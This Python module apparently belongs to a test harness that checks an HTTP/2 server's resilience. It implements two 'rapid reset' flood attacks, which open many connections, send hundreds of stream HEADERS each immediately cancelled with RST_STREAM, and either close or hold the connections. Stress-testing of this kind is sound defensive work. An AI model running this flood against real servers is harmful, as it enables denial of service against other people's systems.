"""Calls that are reset as they begin, few enough a connection, on one connection after the other."""

import time

import http2
from attack import HOLDING_SECONDS, Attack, in_threads
from guard import STRANGER

# Fewer than the server's bound for one connection, whatever --max-streams-per-connection is.
RESETS = 750
THREADS = 3
HELD = 400  # open connections of a thread, where they stay open
# What the server may have unfinished of one address, at some 10 KB a call, and what is on its way.
PEAK_MIB = 256


def _flood(target, outcome, stays):
    def work(target, outcome, _):
        held = []
        block = {}
        while target.left() > 0:
            access = target.attacker()
            if access not in block:
                fields = http2.request_fields(access, "MultiplyUnary")
                block[access] = b"".join(
                    http2.frame(http2.HEADERS, http2.END_HEADERS, stream, fields)
                    + http2.rst_stream(stream) for stream in range(1, 2 * RESETS, 2))
            try:
                connection = http2.Connection(access)
            except OSError:
                outcome.count("connections refused")
                time.sleep(0.01)
                continue
            if connection.send(block[access], 2):
                outcome.count("resets", RESETS)
            outcome.count("connections")
            if stays:
                held.append(connection)
            else:
                connection.close()
            if len(held) > HELD:
                held.pop(0).close()
        for connection in held:
            connection.close()

    in_threads(THREADS, work, target, outcome)


def reconnects(target, outcome):
    """Each connection is closed when its calls are reset."""
    _flood(target, outcome, stays=False)


def many_connections(target, outcome):
    """They stay open."""
    _flood(target, outcome, stays=True)


ATTACKS = [
    Attack("reset-reconnects", f"{RESETS} calls reset at once on each of many connections, one "
           "after the other", reconnects, peak_mib=PEAK_MIB, seconds=HOLDING_SECONDS,
           by=(STRANGER, "call")),
    Attack("reset-connections", f"the same on up to {THREADS * HELD:,} connections that stay "
           "open", many_connections, peak_mib=PEAK_MIB, seconds=HOLDING_SECONDS,
           by=(STRANGER, "call")),
]
